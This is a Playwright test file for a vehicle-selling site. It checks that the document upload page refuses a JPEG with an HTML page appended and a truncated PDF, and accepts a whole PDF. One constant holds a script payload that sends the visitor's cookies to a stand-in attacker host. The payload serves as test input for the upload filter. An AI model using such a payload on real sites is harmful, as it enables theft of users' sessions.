import { fixture } from '../tests/support/files';
import { confirmEmail, expect, test, valueAndSignUp } from './support';

const JPEG = Buffer.from(fixture('photo.jpg'));
const LETTER = Buffer.from(fixture('letter.pdf'));
const WEB_PAGE = '<html><body><script>document.location="//evil.example/?"+document.cookie</script></body></html>';

test('a file that hides a page, or is cut short, is refused on the same page with a reason; a whole one is taken', async ({
  page,
  javaScriptEnabled,
}, testInfo) => {
  const email = `uploads.${testInfo.project.name}.${Date.now()}@example.co.uk`;
  const mobile = await valueAndSignUp(page, email);
  // Documents wait for a proven address: the seller opens the link e-mailed at sign-up.
  await confirmEmail(page, email, javaScriptEnabled, mobile);
  await page.goto('/KE19FTA/get-ahead/upload-documents');
  const v5c = page.getByTestId('document-v5c');

  await v5c
    .getByLabel('V5C logbook file')
    .setInputFiles({ name: 'v5c.jpg', mimeType: 'image/jpeg', buffer: Buffer.concat([JPEG, Buffer.from(WEB_PAGE)]) });
  await v5c.getByRole('button', { name: 'Upload' }).click();
  await expect(v5c.getByRole('alert')).toHaveText(
    'That file contains something besides the photo or document, so we cannot accept it. Take a new photo, or save the document again as a PDF, and upload that.',
  );
  await expect(page.getByRole('heading', { name: 'Get ahead: upload your documents now' })).toBeVisible();

  await v5c
    .getByLabel('V5C logbook file')
    .setInputFiles({ name: 'v5c.pdf', mimeType: 'application/pdf', buffer: LETTER.subarray(0, LETTER.length - 200) });
  await v5c.getByRole('button', { name: 'Upload' }).click();
  await expect(v5c.getByRole('alert')).toHaveText(
    'That file is damaged or incomplete. Save it again, or take a new photo, and upload that.',
  );

  await v5c.getByLabel('V5C logbook file').setInputFiles({ name: 'v5c.pdf', mimeType: 'application/pdf', buffer: LETTER });
  await v5c.getByRole('button', { name: 'Upload' }).click();
  await expect(v5c).toContainText('v5c.pdf ✓');
  await expect(v5c.getByRole('alert')).toHaveCount(0);
});
